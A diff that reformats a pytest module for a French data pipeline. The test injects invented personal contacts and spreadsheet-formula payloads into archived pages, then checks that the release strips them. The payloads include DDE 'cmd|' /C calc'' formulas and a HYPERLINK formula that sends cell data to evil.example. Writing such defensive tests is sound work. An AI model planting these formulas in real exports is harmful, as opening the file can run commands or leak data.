@@ -5,6 +5,7 @@ and address and in a company, publishes a release in which no injected e-mail or
 appears in any file (issues.json included), every one of those people is still in
 ``advisors``, and the CSV cells a spreadsheet would run start with a single quote.
 The people are the sample's invented ones; the contacts are invented too."""
+
 from __future__ import annotations
 
 import json
@@ -32,44 +33,86 @@ SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
 
 # (snapshot file, text in the page, replacement): every contact below must vanish.
 INJECTIONS = [
-    ("cce_committees/pages/les-cce-en-france/hauts-de-france.html",
-     "<td>Présidente</td>", "<td>Présidente (v.hamel@orange.fr, 07 81 23 45 67)</td>"),
-    ("cce_committees/pages/les-cce-en-france/hauts-de-france.html",
-     "<td>Témoinia Industrie SARL</td>",
-     "<td>Témoinia Industrie SARL, marc.girard [at] gmail.com, mobile 06/12/34/56/78</td>"),
-    ("cce_committees/pages/les-cce-en-france/hauts-de-france.html",
-     "<td>Prototypium Énergie SA</td>", "<td>@SUM(1+1)*cmd|' /C calc'!A0</td>"),
-    ("cce_committees/pages/les-cce-dans-le-monde/albanie.html",
-     "M. Stéphane GIRARD, <em>", "M. Stéphane GIRARD (s.girard@exemplis.fr), <em>"),
-    ("cce_committees/pages/les-cce-dans-le-monde/albanie.html",
-     "Mme Caroline FOURNIER</li>", "Mme Caroline FOURNIER – tél. 0033 6 11 22 33 44</li>"),
-    ("cce_appointments/pages/JORFTEXT000048601234.html",
-     "M. Arnoult (Bastien, Claude).", "M. Arnoult (Bastien, Claude), directeur commercial (06 98 76 54 32), Exempla SA."),
-    ("cce_appointments/pages/JORFTEXT000048601234.html",
-     "M. Le Goff (Yann, Marie, Joseph).",
-     "M. Le Goff (Yann, Marie, Joseph), responsable export, yann.legoff arobase exempla point fr, +33 7 81 00 11 22."),
-    ("poles/pages/poles/aerospace-valley.html",
-     "<p>AV fédère", '<p>=HYPERLINK(&quot;http://evil.example/?x=&quot;&amp;A1,&quot;Cliquez&quot;) AV fédère'),
-    ("poles/pages/poles/aerospace-valley.html",
-     "<dd>12 rue de la République<br>", "<dd>+cmd|' /C calc'!A0<br>"),
-    ("poles/pages/poles/aerospace-valley.html",
-     "développement des PME de la région Occitanie.",
-     "développement des PME de la région Occitanie. Contact presse : Mme Julie Exemple, julie.exemple@orange.fr."),
+    (
+        "cce_committees/pages/les-cce-en-france/hauts-de-france.html",
+        "<td>Présidente</td>",
+        "<td>Présidente (v.hamel@orange.fr, 07 81 23 45 67)</td>",
+    ),
+    (
+        "cce_committees/pages/les-cce-en-france/hauts-de-france.html",
+        "<td>Témoinia Industrie SARL</td>",
+        "<td>Témoinia Industrie SARL, marc.girard [at] gmail.com, mobile 06/12/34/56/78</td>",
+    ),
+    (
+        "cce_committees/pages/les-cce-en-france/hauts-de-france.html",
+        "<td>Prototypium Énergie SA</td>",
+        "<td>@SUM(1+1)*cmd|' /C calc'!A0</td>",
+    ),
+    (
+        "cce_committees/pages/les-cce-dans-le-monde/albanie.html",
+        "M. Stéphane GIRARD, <em>",
+        "M. Stéphane GIRARD (s.girard@exemplis.fr), <em>",
+    ),
+    (
+        "cce_committees/pages/les-cce-dans-le-monde/albanie.html",
+        "Mme Caroline FOURNIER</li>",
+        "Mme Caroline FOURNIER – tél. 0033 6 11 22 33 44</li>",
+    ),
+    (
+        "cce_appointments/pages/JORFTEXT000048601234.html",
+        "M. Arnoult (Bastien, Claude).",
+        "M. Arnoult (Bastien, Claude), directeur commercial (06 98 76 54 32), Exempla SA.",
+    ),
+    (
+        "cce_appointments/pages/JORFTEXT000048601234.html",
+        "M. Le Goff (Yann, Marie, Joseph).",
+        "M. Le Goff (Yann, Marie, Joseph), responsable export, yann.legoff arobase exempla point fr, +33 7 81 00 11 22.",
+    ),
+    (
+        "poles/pages/poles/aerospace-valley.html",
+        "<p>AV fédère",
+        "<p>=HYPERLINK(&quot;http://evil.example/?x=&quot;&amp;A1,&quot;Cliquez&quot;) AV fédère",
+    ),
+    ("poles/pages/poles/aerospace-valley.html", "<dd>12 rue de la République<br>", "<dd>+cmd|' /C calc'!A0<br>"),
+    (
+        "poles/pages/poles/aerospace-valley.html",
+        "développement des PME de la région Occitanie.",
+        "développement des PME de la région Occitanie. Contact presse : Mme Julie Exemple, julie.exemple@orange.fr.",
+    ),
 ]
 # Every spelling of the injected contacts a file could hold, and their digits alone.
-LEAKS = ["v.hamel", "orange.fr", "81 23 45 67", "marc.girard", "gmail", "12/34/56", "s.girard", "exemplis.fr",
-         "11 22 33 44", "98 76 54 32", "yann.legoff", "arobase", "81 00 11 22", "julie.exemple"]
+LEAKS = [
+    "v.hamel",
+    "orange.fr",
+    "81 23 45 67",
+    "marc.girard",
+    "gmail",
+    "12/34/56",
+    "s.girard",
+    "exemplis.fr",
+    "11 22 33 44",
+    "98 76 54 32",
+    "yann.legoff",
+    "arobase",
+    "81 00 11 22",
+    "julie.exemple",
+]
 DIGITS = ["781234567", "612345678", "611223344", "698765432", "781001122"]
 
 
 def _run(data: Path, archives: Path) -> subprocess.CompletedProcess:
-    env = dict(os.environ, POLES_CCE_DATA_DIR=str(data), DAGSTER_HOME=str(data / "dagster_home"),
-               POLES_CCE_ARCHIVES_DIR=str(archives))
+    env = dict(
+        os.environ,
+        POLES_CCE_DATA_DIR=str(data),
+        DAGSTER_HOME=str(data / "dagster_home"),
+        POLES_CCE_ARCHIVES_DIR=str(archives),
+    )
     env.pop("POLES_CCE_MODE", None)
     (data / "dagster_home").mkdir(parents=True, exist_ok=True)
     (data / "dagster_home" / "dagster.yaml").write_text("telemetry:\n  enabled: false\n")
-    return subprocess.run([sys.executable, "-m", "pipelines.run"], cwd=REPO_ROOT, env=env,
-                          capture_output=True, text=True, timeout=900)
+    return subprocess.run(
+        [sys.executable, "-m", "pipelines.run"], cwd=REPO_ROOT, env=env, capture_output=True, text=True, timeout=900
+    )
 
 
 @pytest.fixture(scope="module")
@@ -83,9 +126,16 @@ def release(tmp_path_factory) -> Path:
     manifest = json.loads(manifest_path.read_text(encoding="utf-8"))
     for company in ("Exempla SA", SUM):
         url = "https://recherche-entreprises.api.gouv.fr/search?" + urlencode(
-            {"q": company, "page": 1, "per_page": 10}, quote_via=lambda v, *a: quote(v, safe=""))
-        manifest["responses"].append({"url": url, "status": 200, "headers": {"Content-Type": "application/json"},
-                                      "file": "pages/search/company-societe-imaginaire-zero-p1.json"})
+            {"q": company, "page": 1, "per_page": 10}, quote_via=lambda v, *a: quote(v, safe="")
+        )
+        manifest["responses"].append(
+            {
+                "url": url,
+                "status": 200,
+                "headers": {"Content-Type": "application/json"},
+                "file": "pages/search/company-societe-imaginaire-zero-p1.json",
+            }
+        )
     manifest_path.write_text(json.dumps(manifest, ensure_ascii=False, indent=1), encoding="utf-8")
     for file, old, new in INJECTIONS:
         page = archives / file
@@ -151,7 +201,12 @@ def test_issue_log_names_url_and_field_of_every_removal(release):
     issues = json.loads((release / "issues.json").read_text(encoding="utf-8"))
     records = issues if isinstance(issues, list) else issues.get("issues", issues)
     removed = {(r["url"], r["field"]) for r in records if r.get("code") == "personal_contact_removed"}
-    assert {(HDF, "officers.role"), (HDF, "officers.company"), (ALBANIE, "officers.name"), (DECREE, "appointee")} <= removed
+    assert {
+        (HDF, "officers.role"),
+        (HDF, "officers.company"),
+        (ALBANIE, "officers.name"),
+        (DECREE, "appointee"),
+    } <= removed
     assert any(field == "description" and "aerospace-valley" in url for url, field in removed)
 
 
@@ -159,9 +214,18 @@ def test_issue_log_names_url_and_field_of_every_removal(release):
 def test_every_table_passed_the_personal_data_check(release):
     checks = json.loads((release / "checks.json").read_text(encoding="utf-8"))
     flat = json.dumps(checks)
-    for table in ("clusters", "cce_committees", "advisors", "cluster_committee_coverage", "cluster_advisor_candidates",
-                  "region_summary"):
-        assert re.search(rf'"table": "{table}"[^{{}}]*"check": "no_personal_contact"|"check": "no_personal_contact"[^{{}}]*"table": "{table}"', flat), table
+    for table in (
+        "clusters",
+        "cce_committees",
+        "advisors",
+        "cluster_committee_coverage",
+        "cluster_advisor_candidates",
+        "region_summary",
+    ):
+        assert re.search(
+            rf'"table": "{table}"[^{{}}]*"check": "no_personal_contact"|"check": "no_personal_contact"[^{{}}]*"table": "{table}"',
+            flat,
+        ), table
 
 
 @pytest.mark.slow
